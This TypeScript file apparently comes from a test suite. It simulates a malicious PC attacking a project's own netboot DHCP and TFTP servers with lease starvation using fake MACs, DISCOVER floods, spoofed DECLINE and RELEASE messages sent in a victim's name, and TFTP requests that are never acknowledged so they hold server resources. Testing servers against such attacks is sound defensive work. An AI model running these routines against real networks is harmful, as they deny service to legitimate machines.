// What a PC on the thin-client network sends to attack the netboot servers, run INSIDE an attacker
// namespace (`ip netns exec NS node netboot-attacker.js SUBCOMMAND …`). Each prints one JSON value.
// Every count is bounded by its argument; nothing here loops without an end.
import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { parseArgs } from 'node:util';
import { macToBytes } from '../../src/contract/ipv4.js';
import { BROADCAST_FLAG, BOOTREQUEST, decodeDhcp, encodeDhcp, MessageType, Opt, optionValue, type DhcpPacket } from '../../src/netboot/dhcp/codec.js';
import { decodeTftp, encodeRequest } from '../../src/netboot/tftp/codec.js';

const { positionals, values } = parseArgs({
  allowPositionals: true,
  options: {
    server: { type: 'string' }, mac: { type: 'string' }, ip: { type: 'string' }, count: { type: 'string' }, listen: { type: 'string' },
    file: { type: 'string' }, timeout: { type: 'string' }, parallel: { type: 'string' },
  },
});
const count = Number(values.count ?? 1);
const listenMs = Number(values.listen ?? 2000);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function bind(port: number): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const s = createSocket({ type: 'udp4', reuseAddr: true });
    s.once('error', reject);
    s.bind({ address: '0.0.0.0', port }, () => { s.setBroadcast(true); resolve(s); });
  });
}

const randomMac = () => Buffer.concat([Buffer.from([0x02]), randomBytes(5)]);

function dhcpMessage(type: number, chaddr: Buffer, xid: number, extra: Array<[number, Buffer]> = []): Buffer {
  return encodeDhcp({ op: BOOTREQUEST, xid, chaddr, flags: BROADCAST_FLAG, options: [[Opt.MESSAGE_TYPE, optionValue.u8(type)], ...extra] });
}

/** Replies on port 68 by xid. */
function replies(s: Socket): Map<number, DhcpPacket[]> {
  const byXid = new Map<number, DhcpPacket[]>();
  s.on('message', (m) => {
    try {
      const p = decodeDhcp(m);
      byXid.set(p.xid, [...(byXid.get(p.xid) ?? []), p]);
    } catch { /* not DHCP */ }
  });
  return byXid;
}

async function waitFor<T>(get: () => T | undefined, ms: number): Promise<T | undefined> {
  for (const end = Date.now() + ms; Date.now() < end; await sleep(20)) {
    const v = get();
    if (v !== undefined) return v;
  }
  return get();
}

/** `count` made-up MACs each run DISCOVER → OFFER → REQUEST (selecting the server) → ACK, `parallel` at a time. */
async function dhcpStarve(): Promise<unknown> {
  const s = await bind(68);
  const byXid = replies(s);
  const tally = { offers: 0, acks: 0, naks: 0, noOffer: 0, noAnswer: 0, ips: [] as string[] };
  let next = 0;
  const one = async (): Promise<void> => {
    const xid = randomBytes(4).readUInt32BE(0);
    const mac = randomMac();
    s.send(dhcpMessage(MessageType.DISCOVER, mac, xid), 67, '255.255.255.255');
    const offer = await waitFor(() => byXid.get(xid)?.find((p) => p.options.messageType === MessageType.OFFER), listenMs);
    if (!offer) { tally.noOffer++; return; }
    tally.offers++;
    byXid.delete(xid);
    s.send(dhcpMessage(MessageType.REQUEST, mac, xid, [[Opt.REQUESTED_IP, optionValue.ip(offer.yiaddr)], [Opt.SERVER_ID, optionValue.ip(values.server!)]]), 67, '255.255.255.255');
    const answer = await waitFor(() => byXid.get(xid)?.find((p) => p.options.messageType === MessageType.ACK || p.options.messageType === MessageType.NAK), listenMs);
    if (!answer) tally.noAnswer++;
    else if (answer.options.messageType === MessageType.ACK) { tally.acks++; tally.ips.push(answer.yiaddr); }
    else tally.naks++;
  };
  const worker = async () => { while (next++ < count) await one(); };
  await Promise.all(Array.from({ length: Number(values.parallel ?? 10) }, worker));
  s.close();
  return tally;
}

/** One MAC sends `count` DISCOVERs back to back; counts the OFFERs that come back. */
async function dhcpBurst(): Promise<unknown> {
  const s = await bind(68);
  const byXid = replies(s);
  const mac = macToBytes(values.mac!);
  const base = randomBytes(4).readUInt32BE(0) & 0x7fffffff;
  for (let i = 0; i < count; i++) s.send(dhcpMessage(MessageType.DISCOVER, mac, base + i), 67, '255.255.255.255');
  await sleep(listenMs);
  s.close();
  const offers = [...byXid.values()].flat().filter((p) => p.options.messageType === MessageType.OFFER).length;
  return { sent: count, offers };
}

/** A DECLINE of `ip` in the name of `mac`, selecting `server`. */
async function dhcpDecline(): Promise<unknown> {
  const s = await bind(0);
  const xid = randomBytes(4).readUInt32BE(0);
  await new Promise<void>((resolve, reject) => s.send(dhcpMessage(MessageType.DECLINE, macToBytes(values.mac!), xid,
    [[Opt.REQUESTED_IP, optionValue.ip(values.ip!)], [Opt.SERVER_ID, optionValue.ip(values.server!)]]), 67, '255.255.255.255', (err) => (err ? reject(err) : resolve())));
  s.close();
  return { sent: 1 };
}

/** The victim's own RELEASE of `ip` (unicast from it to the server, as RFC 2131 §4.4.6 says). */
async function dhcpRelease(): Promise<unknown> {
  const s = createSocket({ type: 'udp4', reuseAddr: true });
  await new Promise<void>((resolve, reject) => { s.once('error', reject); s.bind({ address: values.ip!, port: 68 }, () => resolve()); });
  const bytes = encodeDhcp({ op: BOOTREQUEST, xid: randomBytes(4).readUInt32BE(0), chaddr: macToBytes(values.mac!), ciaddr: values.ip!,
    options: [[Opt.MESSAGE_TYPE, optionValue.u8(MessageType.RELEASE)], [Opt.SERVER_ID, optionValue.ip(values.server!)]] });
  await new Promise<void>((resolve, reject) => s.send(bytes, 67, values.server!, (err) => (err ? reject(err) : resolve())));
  s.close();
  return { sent: 1 };
}

/**
 * `count` read requests from as many ports of this address, asking a long `timeout`, never ACKing:
 * counts what comes back per port (OACK/DATA packets, ERRORs) within `listen` ms.
 */
async function tftpSilent(): Promise<unknown> {
  const sockets = await Promise.all(Array.from({ length: count }, () => bind(0)));
  const perPort = sockets.map(() => ({ packets: 0, oack: undefined as Record<string, string> | undefined, error: undefined as string | undefined }));
  sockets.forEach((s, i) => s.on('message', (m) => {
    const p = decodeTftp(m);
    if (p.op === 'error') perPort[i]!.error = p.message;
    else { perPort[i]!.packets++; if (p.op === 'oack') perPort[i]!.oack = p.options; }
  }));
  const options: Record<string, string> = values.timeout ? { timeout: values.timeout } : {};
  for (const s of sockets) s.send(encodeRequest('rrq', values.file!, 'octet', options), 69, values.server!);
  await sleep(listenMs);
  for (const s of sockets) s.close();
  return perPort;
}

const COMMANDS: Record<string, () => Promise<unknown>> = { 'dhcp-starve': dhcpStarve, 'dhcp-burst': dhcpBurst, 'dhcp-decline': dhcpDecline, 'dhcp-release': dhcpRelease, 'tftp-silent': tftpSilent };
const command = COMMANDS[positionals[0] ?? ''];
if (!command) {
  process.stderr.write(`usage: netboot-attacker.js ${Object.keys(COMMANDS).join('|')} [options]\n`);
  process.exit(2);
}
process.stdout.write(`${JSON.stringify(await command())}\n`);
